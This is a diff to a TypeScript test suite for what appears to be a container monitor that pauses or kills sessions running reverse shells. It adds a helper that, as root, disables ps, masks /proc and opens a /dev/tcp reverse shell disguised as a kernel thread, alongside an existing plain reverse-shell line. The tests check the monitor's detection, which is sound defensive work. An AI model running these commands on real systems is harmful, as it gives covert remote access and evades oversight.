@@ -29,6 +29,15 @@ async function auditLines(bed: CoidBed, container: string): Promise<string[]> {
   return [...lines];
 }
 
+/** As root: nothing is left of /proc and ps, and the shell calls itself a thread of the kernel. Prints how many processes are seen. */
+const hiddenShell = (gateway: string, port: number) => `
+cp /bin/true /bin/ps; mount -t tmpfs none /proc
+cat > /tmp/hidden <<'end'
+exec -a "[kworker/u8:1]" bash -i >& /dev/tcp/${gateway}/${port} 0>&1
+end
+setsid bash /tmp/hidden >/dev/null 2>&1 </dev/null &
+ls /proc | grep -c "^[0-9]"`;
+
 const shell = (gateway: string, port: number) =>
   `bash -c "bash -i >& /dev/tcp/${gateway}/${port} 0>&1"`;
 
@@ -81,19 +90,28 @@ test('a container that nobody lets go of is killed, with evidence kept', limit, 
   assert.ok(records.some(({ action }) => action === 'killed'));
 });
 
-test('a session that is not watched is not touched by the same shell', limit, async () => {
-  await using bed = await coidBed();
-  await using remote = await attacker();
-  const watchedOne = await bed.session({ config: watched({ killGraceMs: 60_000 }) });
-  const other = await bed.session();
-  await untilWatched(bed, watchedOne.container);
-  await plant(bed, other.container, shell(other.nic.gateway, remote.port));
-  await remote.connected;
-  // Both are looked at in the same rounds: when the watched one is paused, the other one had its chance.
-  await plant(bed, watchedOne.container, shell(watchedOne.nic.gateway, remote.port));
-  await bed.lifecycle.until('instance-paused', watchedOne.container);
-  assert.equal(await bed.status(other.container), 'Running');
-});
+test(
+  'a session that is not watched is not touched by a shell; in a watched one it cannot be hidden',
+  limit,
+  async () => {
+    await using bed = await coidBed();
+    await using remote = await attacker();
+    const watchedOne = await bed.session({ config: watched({ killGraceMs: 60_000 }) });
+    const other = await bed.session();
+    await untilWatched(bed, watchedOne.container);
+    await plant(bed, other.container, shell(other.nic.gateway, remote.port));
+    await remote.connected;
+    // Both are looked at in the same rounds: when the watched one is paused, the other one had its chance.
+    const hidden = await bed.sh(
+      watchedOne.container,
+      hiddenShell(watchedOne.nic.gateway, remote.port),
+      'root',
+    );
+    assert.equal(hidden.stdout.toString().trim(), '0', 'processes that can be seen inside');
+    await bed.lifecycle.until('instance-paused', watchedOne.container);
+    assert.equal(await bed.status(other.container), 'Running');
+  },
+);
 
 test('a container under load stands still within a moment of the sample', limit, async () => {
   await using bed = await coidBed();
